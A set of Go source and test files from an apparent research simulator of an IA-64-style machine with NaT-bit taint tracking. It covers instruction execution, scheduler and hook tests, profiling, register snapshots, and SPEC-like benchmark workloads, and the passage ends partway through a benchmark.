			v = m.GR[u.s2&127]
		}
		r := u.cond.Eval(m.GR[u.s1&127], v)
		m.setPR(u.p1, r)
		m.setPR(u.p2, !r)
		m.charge(ins, c.ALU)
	case uTnat:
		m.setPR(u.p1, m.NaT[u.s1&127])
		m.setPR(u.p2, !m.NaT[u.s1&127])
		m.charge(ins, c.ALU)
	case uLd8, uLd4, uLd2, uLd1:
		if m.NaT[u.s1&127] {
			return m.trap(TrapNaTLoadAddr, ins, uint64(m.GR[u.s1&127]), u.s1, nil)
		}
		addr := uint64(m.GR[u.s1&127])
		v, missed, fault := m.read(addr, int(ins.Size))
		if fault != nil {
			return m.trap(TrapMemFault, ins, addr, 0, fault)
		}
		m.setGR(u.d, int64(v), false)
		m.chargeLoad(ins, missed)
	case uLdS8, uLdS4, uLdS2, uLdS1:
		if m.NaT[u.s1&127] {
			m.setGR(u.d, 0, true)
			m.charge(ins, c.Ld+c.Defer)
			break
		}
		addr := uint64(m.GR[u.s1&127])
		v, missed, fault := m.read(addr, int(ins.Size))
		if fault != nil {
			m.setGR(u.d, 0, true)
			m.charge(ins, c.Ld+c.Defer)
			break
		}
		m.setGR(u.d, int64(v), false)
		m.chargeLoad(ins, missed)
	case uLdFill:
		if m.NaT[u.s1&127] {
			return m.trap(TrapNaTLoadAddr, ins, uint64(m.GR[u.s1&127]), u.s1, nil)
		}
		addr := uint64(m.GR[u.s1&127])
		v, missed, fault := m.read(addr, 8)
		if fault != nil {
			return m.trap(TrapMemFault, ins, addr, 0, fault)
		}
		m.setGR(u.d, int64(v), m.UNAT>>uint(u.bit)&1 != 0)
		m.chargeLoad(ins, missed)
		m.charge(ins, c.SpillFill)
	case uSt8, uSt4, uSt2, uSt1:
		if m.NaT[u.s1&127] {
			return m.trap(TrapNaTStoreAddr, ins, uint64(m.GR[u.s1&127]), u.s1, nil)
		}
		if m.NaT[u.s2&127] {
			return m.trap(TrapNaTStoreData, ins, uint64(m.GR[u.s1&127]), u.s2, nil)
		}
		addr := uint64(m.GR[u.s1&127])
		if fault := m.Mem.Write(addr, int(ins.Size), uint64(m.GR[u.s2&127])); fault != nil {
			return m.trap(TrapMemFault, ins, addr, 0, fault)
		}
		m.charge(ins, c.St)
	case uStSpill:
		if m.NaT[u.s1&127] {
			return m.trap(TrapNaTStoreAddr, ins, uint64(m.GR[u.s1&127]), u.s1, nil)
		}
		addr := uint64(m.GR[u.s1&127])
		if fault := m.Mem.Write(addr, 8, uint64(m.GR[u.s2&127])); fault != nil {
			return m.trap(TrapMemFault, ins, addr, 0, fault)
		}
		if m.NaT[u.s2&127] {
			m.UNAT |= 1 << uint(u.bit)
		} else {
			m.UNAT &^= 1 << uint(u.bit)
		}
		m.charge(ins, c.St+c.SpillFill)
	case uChkS:
		if m.NaT[u.s1&127] {
			m.nextPC = int(u.tgt)
			m.charge(ins, c.Br)
		} else {
			m.charge(ins, c.Chk)
		}
	case uBr:
		m.nextPC = int(u.tgt)
		m.charge(ins, c.Br)
	case uBrCall:
		m.BR[u.b&7] = int64(m.PC + 1)
		m.nextPC = int(u.tgt)
		m.charge(ins, c.Br)
	case uBrRet, uBrInd:
		m.nextPC = int(m.BR[u.b&7])
		m.charge(ins, c.Br)
	case uMovToBr:
		if m.NaT[u.s1&127] {
			return m.trap(TrapNaTBranch, ins, 0, u.s1, nil)
		}
		m.BR[u.b&7] = m.GR[u.s1&127]
		m.charge(ins, c.ALU)
	case uMovFromBr:
		m.setGR(u.d, m.BR[u.b&7], false)
		m.charge(ins, c.ALU)
	case uMovToUnat:
		if m.NaT[u.s1&127] {
			return m.trap(TrapNaTBranch, ins, 0, u.s1, nil)
		}
		m.UNAT = uint64(m.GR[u.s1&127])
		m.charge(ins, c.ALU)
	case uMovFromUnat:
		m.setGR(u.d, int64(m.UNAT), false)
		m.charge(ins, c.ALU)
	case uMovToCcv:
		if m.NaT[u.s1&127] {
			return m.trap(TrapNaTBranch, ins, 0, u.s1, nil)
		}
		m.CCV = uint64(m.GR[u.s1&127])
		m.charge(ins, c.ALU)
	case uMovFromCcv:
		m.setGR(u.d, int64(m.CCV), false)
		m.charge(ins, c.ALU)
	case uCmpxchg:
		if m.NaT[u.s1&127] {
			return m.trap(TrapNaTStoreAddr, ins, uint64(m.GR[u.s1&127]), u.s1, nil)
		}
		if m.NaT[u.s2&127] {
			return m.trap(TrapNaTStoreData, ins, uint64(m.GR[u.s1&127]), u.s2, nil)
		}
		addr := uint64(m.GR[u.s1&127])
		old, missed, fault := m.read(addr, int(ins.Size))
		if fault != nil {
			return m.trap(TrapMemFault, ins, addr, 0, fault)
		}
		if old == m.CCV {
			if fault := m.Mem.Write(addr, int(ins.Size), uint64(m.GR[u.s2&127])); fault != nil {
				return m.trap(TrapMemFault, ins, addr, 0, fault)
			}
		}
		m.setGR(u.d, int64(old), false)
		m.chargeLoad(ins, missed)
		m.charge(ins, c.St) // semaphore ops pay both halves
	case uSetNat:
		if !m.Feat.SetClrNaT {
			return m.trap(TrapIllegal, ins, 0, 0, fmt.Errorf("setnat requires the set/clear-NaT enhancement"))
		}
		m.NaT[u.d&127] = u.d != isa.RegZero
		m.charge(ins, c.ALU)
	case uClrNat:
		if !m.Feat.SetClrNaT {
			return m.trap(TrapIllegal, ins, 0, 0, fmt.Errorf("clrnat requires the set/clear-NaT enhancement"))
		}
		m.NaT[u.d&127] = false
		m.charge(ins, c.ALU)
	case uSyscall:
		if m.OS == nil {
			return m.trap(TrapHostError, ins, 0, 0, fmt.Errorf("no syscall handler installed"))
		}
		m.charge(ins, c.Syscall)
		extra, trap := m.OS.Syscall(m, u.imm)
		m.charge(ins, extra)
		if trap != nil {
			return trap
		}
	case uNop:
		m.charge(ins, c.Nop)
	default:
		return m.trap(TrapIllegal, ins, 0, 0, fmt.Errorf("undefined opcode"))
	}
	return nil
}
