package machine

import (
	"testing"

	"shift/internal/asm"
	"shift/internal/isa"
	"shift/internal/mem"
)

// schedOS handles exit and yield for scheduler tests.
type schedOS struct{}

func (schedOS) Syscall(m *Machine, num int64) (uint64, *Trap) {
	switch num {
	case isa.SysExit:
		m.Halt(m.GR[isa.RegArg0])
		return 0, nil
	case isa.SysYield:
		m.YieldReq = true
		return 0, nil
	}
	return 0, &Trap{Kind: TrapHostError, PC: m.PC, Ins: "syscall"}
}

func schedProg(t *testing.T, src string) (*isa.Program, *mem.Memory) {
	t.Helper()
	p, err := asm.Assemble(src, asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	m := mem.New()
	m.MapRegion(1, 0)
	m.MapRegion(2, 0)
	if len(p.Data) > 0 {
		if f := m.WriteBytes(p.DataBase, p.Data); f != nil {
			t.Fatal(f)
		}
	}
	return p, m
}

func TestSchedulerSingleThread(t *testing.T) {
	p, memory := schedProg(t, "main:\nmovl r32 = 7\nsyscall 1\n")
	m := New(p, memory)
	m.OS = schedOS{}
	s := NewScheduler(m)
	if trap := s.Run(); trap != nil {
		t.Fatal(trap)
	}
	if m.ExitStatus != 7 {
		t.Errorf("exit = %d", m.ExitStatus)
	}
	if s.TotalCycles() != m.Cycles || s.TotalRetired() != m.Retired {
		t.Error("aggregate counters disagree with the single thread")
	}
}

func TestSchedulerSpawnRoundRobin(t *testing.T) {
	// Each worker deposits its argument into its own slot (shared
	// read-modify-writes between preemptible threads would lose updates
	// — the very §4.4 hazard the shift-level tests demonstrate — so
	// well-behaved guest code avoids them). Main spins until both slots
	// are filled.
	src := `
	.data
slots: .word8 0, 0
	.text
	.entry main
worker:
	; slot index: arg >= 16 ? 0 : 1
	movl r1 = slots
	cmpi.lt p6, p7 = r32, 16
	(p6) addi r1 = r1, 8
	st8 [r1] = r32
halt:
	br halt          ; workers spin; the test checks memory
main:
	movl r1 = slots
	movl r2 = slots+8
wait:
	syscall 19       ; yield
	ld8 r3 = [r1]
	ld8 r4 = [r2]
	cmpi.eq p6, p7 = r3, 0
	(p6) br wait
	cmpi.eq p6, p7 = r4, 0
	(p6) br wait
	add r32 = r3, r4
	syscall 1
`
	p, memory := schedProg(t, src)
	m := New(p, memory)
	m.OS = schedOS{}
	m.Budget = 5_000_000
	s := NewScheduler(m)
	s.Quantum = 10
	s.Spawn(p.Symbols["worker"], 30, mem.Addr(2, 0x100000))
	s.Spawn(p.Symbols["worker"], 12, mem.Addr(2, 0x200000))
	if trap := s.Run(); trap != nil {
		t.Fatal(trap)
	}
	if m.ExitStatus != 42 {
		t.Errorf("counter = %d, want 42", m.ExitStatus)
	}
	if len(s.Threads) != 3 {
		t.Errorf("threads = %d", len(s.Threads))
	}
	if s.Threads[1].TID != 1 || s.Threads[2].TID != 2 {
		t.Error("TIDs not assigned in order")
	}
}

func TestSpawnedThreadReturnHalts(t *testing.T) {
	// A spawned entry that returns through b0 (HaltPC) halts cleanly
	// with its r8 as exit status.
	src := `
	.entry main
worker:
	movl r8 = 55
	br.ret b0
main:
	syscall 19
	syscall 19
	mov r32 = r0
	syscall 1
`
	p, memory := schedProg(t, src)
	m := New(p, memory)
	m.OS = schedOS{}
	s := NewScheduler(m)
	s.Quantum = 5
	s.Spawn(p.Symbols["worker"], 0, mem.Addr(2, 0x100000))
	if trap := s.Run(); trap != nil {
		t.Fatal(trap)
	}
	w := s.Threads[1]
	if !w.Halted || w.ExitStatus != 55 {
		t.Errorf("worker halted=%v exit=%d", w.Halted, w.ExitStatus)
	}
}

func TestSchedulerDeterministic(t *testing.T) {
	run := func() (uint64, int64) {
		p, memory := schedProg(t, `
	.data
x: .word8 0
	.text
	.entry main
worker:
	movl r1 = x
	ld8 r2 = [r1]
	addi r2 = r2, 3
	st8 [r1] = r2
	movl r8 = 0
	br.ret b0
main:
	syscall 19
	syscall 19
	syscall 19
	movl r1 = x
	ld8 r32 = [r1]
	syscall 1
`)
		m := New(p, memory)
		m.OS = schedOS{}
		s := NewScheduler(m)
		s.Quantum = 7
		s.Spawn(p.Symbols["worker"], 0, mem.Addr(2, 0x100000))
		if trap := s.Run(); trap != nil {
			t.Fatal(trap)
		}
		return s.TotalCycles(), m.ExitStatus
	}
	c1, e1 := run()
	c2, e2 := run()
	if c1 != c2 || e1 != e2 {
		t.Errorf("non-deterministic scheduling: (%d,%d) vs (%d,%d)", c1, e1, c2, e2)
	}
}

func TestJoinSemantics(t *testing.T) {
	m := New(&isa.Program{Text: []isa.Instruction{{Op: isa.OpNop}}}, mem.New())
	s := NewScheduler(m)
	if s.Join(0, 0) {
		t.Error("self-join accepted")
	}
	if s.Join(0, 5) {
		t.Error("join of unknown thread accepted")
	}
}
