package machine

import (
	"errors"
	"testing"

	"shift/internal/isa"
	"shift/internal/mem"
)

type countingHook struct {
	pre, post int
	failAt    int // PostStep returns an error on this retirement (1-based); 0 disables
	err       error
}

func (h *countingHook) PreStep(m *Machine, ins *isa.Instruction) { h.pre++ }

func (h *countingHook) PostStep(m *Machine, ins *isa.Instruction) error {
	h.post++
	if h.failAt != 0 && h.post == h.failAt {
		return h.err
	}
	return nil
}

func hookProg(t *testing.T) *isa.Program {
	t.Helper()
	// cmpi p1,p2 = (r0 == 1) — false, so p1 clear and the predicated add
	// is squashed; the hook must still see it.
	text := []isa.Instruction{
		{Op: isa.OpMovl, Dest: 1, Imm: 7},
		{Op: isa.OpCmpi, Src1: 0, Imm: 1, Cond: isa.CondEQ, P1: 1, P2: 2},
		{Op: isa.OpAddi, Qp: 1, Dest: 2, Src1: 1, Imm: 1},
		{Op: isa.OpAddi, Dest: 3, Src1: 1, Imm: 2},
	}
	p := &isa.Program{Text: text}
	if err := p.Validate(); err != nil {
		t.Fatal(err)
	}
	return p
}

// The hook must fire exactly once per retirement, including for
// predicated-off instructions.
func TestStepHookFiresPerRetirement(t *testing.T) {
	p := hookProg(t)
	memory := mem.New()
	m := New(p, memory)
	h := &countingHook{}
	m.Hook = h
	for i := 0; i < len(p.Text); i++ {
		if trap := m.Step(); trap != nil {
			t.Fatalf("step %d: %v", i, trap)
		}
	}
	if h.pre != 4 || h.post != 4 {
		t.Errorf("hook fired pre=%d post=%d, want 4/4 (pred-off included)", h.pre, h.post)
	}
	if m.GR[2] != 0 {
		t.Errorf("squashed add committed: r2 = %d", m.GR[2])
	}
}

// A PostStep error must surface as a TrapOracle naming the instruction,
// and the PC must still point at it (not the successor).
func TestStepHookErrorTrapsOracle(t *testing.T) {
	p := hookProg(t)
	m := New(p, mem.New())
	sentinel := errors.New("shadow mismatch")
	m.Hook = &countingHook{failAt: 2, err: sentinel}
	var trap *Trap
	for i := 0; i < len(p.Text); i++ {
		if trap = m.Step(); trap != nil {
			break
		}
	}
	if trap == nil || trap.Kind != TrapOracle {
		t.Fatalf("trap = %v, want oracle divergence", trap)
	}
	if !errors.Is(trap.Err, sentinel) {
		t.Errorf("trap.Err = %v, want the hook's error", trap.Err)
	}
	if trap.PC != 1 {
		t.Errorf("trap.PC = %d, want 1 (the instruction the hook rejected)", trap.PC)
	}
}

// Reset and Spawn must both carry the hook over.
func TestHookSurvivesResetAndSpawn(t *testing.T) {
	p := hookProg(t)
	m := New(p, mem.New())
	h := &countingHook{}
	m.Hook = h
	m.Reset()
	if m.Hook != StepHook(h) {
		t.Error("Reset dropped the hook")
	}
	s := NewScheduler(m)
	tid := s.Spawn(0, 0, 0x1000)
	if s.Threads[tid].Hook != StepHook(h) {
		t.Error("Spawn did not inherit the hook")
	}
}
