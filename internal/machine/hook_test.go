package machine

import (
	"errors"
	"testing"

	"shift/internal/isa"
	"shift/internal/mem"
)

type countingHook struct {
	pre, post int
	failAt    int // PostStep returns an error on this retirement (1-based); 0 disables
	err       error
}

func (h *countingHook) PreStep(m *Machine, ins *isa.Instruction) { h.pre++ }

func (h *countingHook) PostStep(m *Machine, ins *isa.Instruction) error {
	h.post++
	if h.failAt != 0 && h.post == h.failAt {
		return h.err
	}
	return nil
}

func hookProg(t *testing.T) *isa.Program {
	t.Helper()
	// cmpi p1,p2 = (r0 == 1) — false, so p1 clear and the predicated add
	// is squashed; the hook must still see it.
	text := []isa.Instruction{
		{Op: isa.OpMovl, Dest: 1, Imm: 7},
		{Op: isa.OpCmpi, Src1: 0, Imm: 1, Cond: isa.CondEQ, P1: 1, P2: 2},
		{Op: isa.OpAddi, Qp: 1, Dest: 2, Src1: 1, Imm: 1},
		{Op: isa.OpAddi, Dest: 3, Src1: 1, Imm: 2},
	}
	p := &isa.Program{Text: text}
	if err := p.Validate(); err != nil {
		t.Fatal(err)
	}
	return p
}

// The hook must fire exactly once per retirement, including for
// predicated-off instructions.
func TestStepHookFiresPerRetirement(t *testing.T) {
	p := hookProg(t)
	memory := mem.New()
	m := New(p, memory)
	h := &countingHook{}
	m.Hook = h
	for i := 0; i < len(p.Text); i++ {
		if trap := m.Step(); trap != nil {
			t.Fatalf("step %d: %v", i, trap)
		}
	}
	if h.pre != 4 || h.post != 4 {
		t.Errorf("hook fired pre=%d post=%d, want 4/4 (pred-off included)", h.pre, h.post)
	}
	if m.GR[2] != 0 {
		t.Errorf("squashed add committed: r2 = %d", m.GR[2])
	}
}

// A PostStep error must surface as a TrapOracle naming the instruction,
// and the PC must still point at it (not the successor).
func TestStepHookErrorTrapsOracle(t *testing.T) {
	p := hookProg(t)
	m := New(p, mem.New())
	sentinel := errors.New("shadow mismatch")
	m.Hook = &countingHook{failAt: 2, err: sentinel}
	var trap *Trap
	for i := 0; i < len(p.Text); i++ {
		if trap = m.Step(); trap != nil {
			break
		}
	}
	if trap == nil || trap.Kind != TrapOracle {
		t.Fatalf("trap = %v, want oracle divergence", trap)
	}
	if !errors.Is(trap.Err, sentinel) {
		t.Errorf("trap.Err = %v, want the hook's error", trap.Err)
	}
	if trap.PC != 1 {
		t.Errorf("trap.PC = %d, want 1 (the instruction the hook rejected)", trap.PC)
	}
}

// Spawn carries the hook over (threads of one run share its observer);
// Reset does not (a reset machine is a new run with a new identity) —
// ResetKeepIdentity is the explicit opt-in for the legacy carry-over.
func TestHookSurvivesSpawnNotReset(t *testing.T) {
	p := hookProg(t)
	m := New(p, mem.New())
	h := &countingHook{}
	m.Hook = h
	s := NewScheduler(m)
	tid := s.Spawn(0, 0, 0x1000)
	if s.Threads[tid].Hook != StepHook(h) {
		t.Error("Spawn did not inherit the hook")
	}

	m.Reset()
	if m.Hook != nil {
		t.Error("Reset carried the previous run's hook into the next run")
	}
	m.Hook = h
	m.ResetKeepIdentity()
	if m.Hook != StepHook(h) {
		t.Error("ResetKeepIdentity dropped the hook")
	}
}

// The machine-reuse lifecycle bug: a pooled guest Reset between two
// sequential runs kept the first run's TID and Hook, so the second
// run's retirements were delivered to the first run's observer and
// stamped with its thread id. Reset must hand the next run a clean
// identity. (This test failed before the fix: run2's retirements
// landed in run1's hook and the TID stayed 3.)
func TestResetClearsPerRunIdentity(t *testing.T) {
	p := hookProg(t)
	m := New(p, mem.New())
	m.TID = 3 // as a scheduler of run 1 would have set
	h1 := &countingHook{}
	m.Hook = h1

	// Run 1, observed by h1.
	for i := 0; i < len(p.Text); i++ {
		if trap := m.Step(); trap != nil {
			t.Fatalf("run 1 step %d: %v", i, trap)
		}
	}
	run1 := h1.post

	// Recycle. Run 2 belongs to a different request: its retirements
	// must not reach h1, and its thread identity must start clean.
	m.Reset()
	if m.TID != 0 {
		t.Errorf("Reset kept run 1's TID %d", m.TID)
	}
	for i := 0; i < len(p.Text); i++ {
		if trap := m.Step(); trap != nil {
			t.Fatalf("run 2 step %d: %v", i, trap)
		}
	}
	if h1.post != run1 {
		t.Errorf("run 2 retirements misattributed to run 1's hook: %d -> %d", run1, h1.post)
	}
}
