package machine

import "sort"

// Profiling support: per-PC retirement counts. The paper repeatedly
// points at profiling-guided decisions (when control speculation pays
// off, §3.3.4; adaptive tracking, §4.4); this is the measurement substrate
// for them.

// EnableProfile starts counting retirements per instruction index.
func (m *Machine) EnableProfile() {
	m.EnableStats().Profile = make([]uint64, len(m.Prog.Text))
}

// profile returns the per-PC counts, nil when profiling is off.
func (m *Machine) profile() []uint64 {
	if m.Stats == nil {
		return nil
	}
	return m.Stats.Profile
}

// Hotspot is one profiled instruction.
type Hotspot struct {
	PC     int
	Count  uint64
	Symbol string // nearest preceding code symbol
	Ins    string
}

// symAt is one code symbol and the instruction index it labels.
type symAt struct {
	idx  int
	name string
}

// symbolTable builds the sorted nearest-symbol table both profile views
// share: function symbols (internal `.`-prefixed labels excluded) in
// index order, ties broken by name. The tie-break matters: Symbols is a
// map, so two labels on the same instruction arrive in random order, and
// an index-only sort would attribute that pc's counts to whichever label
// the iteration happened to yield — nondeterministically across runs.
func (m *Machine) symbolTable() []symAt {
	syms := make([]symAt, 0, len(m.Prog.Symbols))
	for name, idx := range m.Prog.Symbols {
		if len(name) > 0 && name[0] == '.' {
			continue // internal labels are not function boundaries
		}
		syms = append(syms, symAt{idx, name})
	}
	sort.Slice(syms, func(i, j int) bool {
		if syms[i].idx != syms[j].idx {
			return syms[i].idx < syms[j].idx
		}
		return syms[i].name < syms[j].name
	})
	return syms
}

// nearestSymbol returns the last symbol at or before pc ("" when pc
// precedes every symbol). The table is sorted, so one binary search
// replaces the per-hotspot linear scan.
func nearestSymbol(syms []symAt, pc int) string {
	i := sort.Search(len(syms), func(i int) bool { return syms[i].idx > pc })
	if i == 0 {
		return ""
	}
	return syms[i-1].name
}

// Hotspots returns the n most-retired instructions, hottest first.
func (m *Machine) Hotspots(n int) []Hotspot {
	if m.profile() == nil {
		return nil
	}
	syms := m.symbolTable()

	var out []Hotspot
	for pc, count := range m.profile() {
		if count > 0 {
			out = append(out, Hotspot{PC: pc, Count: count})
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Count != out[j].Count {
			return out[i].Count > out[j].Count
		}
		return out[i].PC < out[j].PC
	})
	if len(out) > n {
		out = out[:n]
	}
	for i := range out {
		out[i].Symbol = nearestSymbol(syms, out[i].PC)
		out[i].Ins = m.Prog.Text[out[i].PC].String()
	}
	return out
}

// FunctionProfile aggregates retirement counts by nearest symbol,
// busiest first.
func (m *Machine) FunctionProfile() []Hotspot {
	if m.profile() == nil {
		return nil
	}
	hs := make([]Hotspot, 0, 16)
	byName := make(map[string]uint64)
	syms := m.symbolTable()
	si := 0
	current := ""
	for pc, count := range m.profile() {
		for si < len(syms) && syms[si].idx <= pc {
			current = syms[si].name
			si++
		}
		byName[current] += count
	}
	for name, count := range byName {
		if count > 0 {
			hs = append(hs, Hotspot{Symbol: name, Count: count})
		}
	}
	sort.Slice(hs, func(i, j int) bool {
		if hs[i].Count != hs[j].Count {
			return hs[i].Count > hs[j].Count
		}
		return hs[i].Symbol < hs[j].Symbol
	})
	return hs
}
