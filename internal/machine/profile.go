package machine

import "sort"

// Profiling support: per-PC retirement counts. The paper repeatedly
// points at profiling-guided decisions (when control speculation pays
// off, §3.3.4; adaptive tracking, §4.4); this is the measurement substrate
// for them.

// EnableProfile starts counting retirements per instruction index.
func (m *Machine) EnableProfile() {
	m.EnableStats().Profile = make([]uint64, len(m.Prog.Text))
}

// profile returns the per-PC counts, nil when profiling is off.
func (m *Machine) profile() []uint64 {
	if m.Stats == nil {
		return nil
	}
	return m.Stats.Profile
}

// Hotspot is one profiled instruction.
type Hotspot struct {
	PC     int
	Count  uint64
	Symbol string // nearest preceding code symbol
	Ins    string
}

// Hotspots returns the n most-retired instructions, hottest first.
func (m *Machine) Hotspots(n int) []Hotspot {
	if m.profile() == nil {
		return nil
	}
	// Nearest-symbol table.
	type symAt struct {
		idx  int
		name string
	}
	var syms []symAt
	for name, idx := range m.Prog.Symbols {
		if len(name) > 0 && name[0] == '.' {
			continue // internal labels are not function boundaries
		}
		syms = append(syms, symAt{idx, name})
	}
	sort.Slice(syms, func(i, j int) bool {
		if syms[i].idx != syms[j].idx {
			return syms[i].idx < syms[j].idx
		}
		return syms[i].name < syms[j].name
	})
	nearest := func(pc int) string {
		name := ""
		for _, s := range syms {
			if s.idx > pc {
				break
			}
			name = s.name
		}
		return name
	}

	var out []Hotspot
	for pc, count := range m.profile() {
		if count > 0 {
			out = append(out, Hotspot{PC: pc, Count: count})
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Count != out[j].Count {
			return out[i].Count > out[j].Count
		}
		return out[i].PC < out[j].PC
	})
	if len(out) > n {
		out = out[:n]
	}
	for i := range out {
		out[i].Symbol = nearest(out[i].PC)
		out[i].Ins = m.Prog.Text[out[i].PC].String()
	}
	return out
}

// FunctionProfile aggregates retirement counts by nearest symbol,
// busiest first.
func (m *Machine) FunctionProfile() []Hotspot {
	if m.profile() == nil {
		return nil
	}
	hs := make([]Hotspot, 0, 16)
	byName := make(map[string]uint64)
	type symAt struct {
		idx  int
		name string
	}
	var syms []symAt
	for name, idx := range m.Prog.Symbols {
		if len(name) > 0 && name[0] == '.' {
			continue
		}
		syms = append(syms, symAt{idx, name})
	}
	sort.Slice(syms, func(i, j int) bool { return syms[i].idx < syms[j].idx })
	si := 0
	current := ""
	for pc, count := range m.profile() {
		for si < len(syms) && syms[si].idx <= pc {
			current = syms[si].name
			si++
		}
		byName[current] += count
	}
	for name, count := range byName {
		if count > 0 {
			hs = append(hs, Hotspot{Symbol: name, Count: count})
		}
	}
	sort.Slice(hs, func(i, j int) bool {
		if hs[i].Count != hs[j].Count {
			return hs[i].Count > hs[j].Count
		}
		return hs[i].Symbol < hs[j].Symbol
	})
	return hs
}
