package machine

import "shift/internal/isa"

// RegSnapshot is a machine's architectural register state, captured once
// (normally right after load, before first execution) and restored on
// every pool recycle. Together with mem.Snapshot/Restore it returns a
// guest to its post-load state in microseconds: registers copied back,
// accounting zeroed, identity cleared.
type RegSnapshot struct {
	GR   [isa.NumGR]int64
	NaT  [isa.NumGR]bool
	PR   [isa.NumPR]bool
	BR   [isa.NumBR]int64
	UNAT uint64
	CCV  uint64
	PC   int
}

// SnapshotRegs captures the machine's architectural register state.
func (m *Machine) SnapshotRegs() *RegSnapshot {
	return &RegSnapshot{
		GR:   m.GR,
		NaT:  m.NaT,
		PR:   m.PR,
		BR:   m.BR,
		UNAT: m.UNAT,
		CCV:  m.CCV,
		PC:   m.PC,
	}
}

// RestoreRegs rewinds the machine to the snapshot's architectural state
// with a clean per-run identity: it performs a full Reset (accounting
// zeroed, Halted cleared, TID and Hook dropped, translation cache and
// Stats collector kept) and then overlays the snapshot's registers and
// PC. Memory is not touched — pair it with mem.Memory.Restore.
func (m *Machine) RestoreRegs(s *RegSnapshot) {
	m.Reset()
	m.GR = s.GR
	m.NaT = s.NaT
	m.PR = s.PR
	m.BR = s.BR
	m.UNAT = s.UNAT
	m.CCV = s.CCV
	m.PC = s.PC
}
