package workload

// The eight SPEC-INT2000 analogues of the paper's Figure 7. Each mirrors
// the character (instruction mix, amount of tainted data, table-lookup
// habits) of the original program rather than its exact algorithm; the
// per-benchmark spread of slowdowns and enhancement benefits comes from
// those characteristics, which is what the reproduction needs.

// GzipLike mirrors 164.gzip: an LZ77-style compressor. Byte-heavy loads
// and stores, a hash table indexed by input data (permissive lookups),
// long match-comparison loops over tainted bytes.
var GzipLike = &Benchmark{
	Name:      "gzip",
	Character: "LZ77 compressor: hash-chain matching over tainted text",
	Permissive: []string{
		"hget", "hput",
	},
	Input:    func(scale int) []byte { return textInput(0x9121, scale) },
	RefScale: 16384,
	Source: `
char inbuf[16384];
char outbuf[20480];
int head[1024];
int inlen;

int hget(int h) { return head[h]; }
void hput(int h, int pos) { head[h] = pos; }

int hash3(int a, int b, int c) {
	return ((a * 33 + b) * 33 + c) & 1023;
}

void main() {
	int fd = open("input.dat", 0);
	if (fd < 0) exit(1);
	inlen = read(fd, inbuf, 16384);
	int i = 0;
	int out = 0;
	int lits = 0;
	int matches = 0;
	while (i < inlen) {
		int len = 0;
		int cand = 0 - 1;
		if (i + 2 < inlen) {
			int h = hash3(inbuf[i], inbuf[i + 1], inbuf[i + 2]);
			cand = hget(h) - 1;
			hput(h, i + 1);
		}
		if (cand >= 0 && cand < i) {
			while (len < 250 && i + len < inlen && inbuf[cand + len] == inbuf[i + len]) {
				len++;
			}
		}
		if (len >= 4) {
			outbuf[out] = 255; out++;
			outbuf[out] = len; out++;
			outbuf[out] = i - cand > 255 ? 255 : i - cand; out++;
			i += len;
			matches++;
		} else {
			outbuf[out] = inbuf[i]; out++;
			i++;
			lits++;
		}
	}
	print_int(out); putc(' ');
	print_int(matches); putc(' ');
	print_int(lits); putc('\n');
	exit(0);
}
`,
}

// GccLike mirrors 176.gcc: an expression compiler — tokeniser, recursive
// descent parser, code emitter, constant folder. Compare-dense control
// over tainted characters and values, which is exactly why gcc shows the
// paper's largest benefit from the NaT-aware compare (Figure 8).
var GccLike = &Benchmark{
	Name:      "gcc",
	Character: "expression compiler: tokenise, parse, emit, fold",
	Input:     func(scale int) []byte { return exprInput(0x6217, scale) },
	RefScale:  10240,
	Source: `
char src[12288];
int srclen;
int toks[6144];
int tvals[6144];
int ntok;
int pos;
int code[16384];
int ncode;
int folded;

void emit2(int op, int val) {
	code[ncode] = op; ncode++;
	code[ncode] = val; ncode++;
}

void tokenize() {
	int i = 0;
	ntok = 0;
	while (i < srclen) {
		char c = src[i];
		if (c >= '0' && c <= '9') {
			int v = 0;
			while (i < srclen && src[i] >= '0' && src[i] <= '9') {
				v = v * 10 + (src[i] - '0');
				i++;
			}
			toks[ntok] = 1;
			tvals[ntok] = v;
			ntok++;
			continue;
		}
		if (c == '+') { toks[ntok] = 2; ntok++; }
		else if (c == '-') { toks[ntok] = 3; ntok++; }
		else if (c == '*') { toks[ntok] = 4; ntok++; }
		else if (c == '(') { toks[ntok] = 5; ntok++; }
		else if (c == ')') { toks[ntok] = 6; ntok++; }
		else if (c == '\n') { toks[ntok] = 7; ntok++; }
		i++;
	}
	toks[ntok] = 0;
}

int parse_factor() {
	if (toks[pos] == 1) {
		int v = tvals[pos];
		pos++;
		emit2(1, v);
		return v;
	}
	if (toks[pos] == 5) {
		pos++;
		int v = parse_expr();
		if (toks[pos] == 6) pos++;
		return v;
	}
	pos++;
	return 0;
}

int parse_term() {
	int v = parse_factor();
	while (toks[pos] == 4) {
		pos++;
		int r = parse_factor();
		emit2(4, 0);
		v = v * r;
		folded++;
	}
	return v;
}

int parse_expr() {
	int v = parse_term();
	while (toks[pos] == 2 || toks[pos] == 3) {
		int op = toks[pos];
		pos++;
		int r = parse_term();
		emit2(op, 0);
		if (op == 2) v = v + r;
		else v = v - r;
		folded++;
	}
	return v;
}

void main() {
	int fd = open("input.dat", 0);
	if (fd < 0) exit(1);
	srclen = read(fd, src, 12288);
	tokenize();
	pos = 0;
	int lines = 0;
	int poscount = 0;
	while (toks[pos] != 0) {
		if (toks[pos] == 7) { pos++; continue; }
		int v = parse_expr();
		if (v > 0) poscount++;
		lines++;
	}
	print_int(lines); putc(' ');
	print_int(poscount); putc(' ');
	print_int(ncode); putc(' ');
	print_int(folded); putc('\n');
	exit(0);
}
`,
}

// CraftyLike mirrors 186.crafty: game-tree search. The input is small
// and immediately classified into clean board values, so almost no
// tainted data flows — the benchmarks where the paper's enhancements buy
// the least (mcf, crafty) share this shape.
var CraftyLike = &Benchmark{
	Name:      "crafty",
	Character: "minimax game search over a small board, little tainted data",
	Input:     func(scale int) []byte { return byteInput(0x40771, 64) },
	RefScale:  64,
	Source: `
int board[16];
int nodes;
int weight[16] = {3, 2, 2, 3, 2, 4, 4, 2, 2, 4, 4, 2, 3, 2, 2, 3};

int evaluate() {
	int s = 0;
	int i;
	for (i = 0; i < 16; i++) {
		if (board[i] == 1) s += weight[i];
		else if (board[i] == 2) s -= weight[i];
	}
	return s;
}

int search(int depth, int side) {
	nodes++;
	if (depth == 0) return evaluate();
	int best = side == 1 ? -10000 : 10000;
	int moved = 0;
	int i;
	for (i = 0; i < 16; i++) {
		if (board[i] != 0) continue;
		moved = 1;
		board[i] = side;
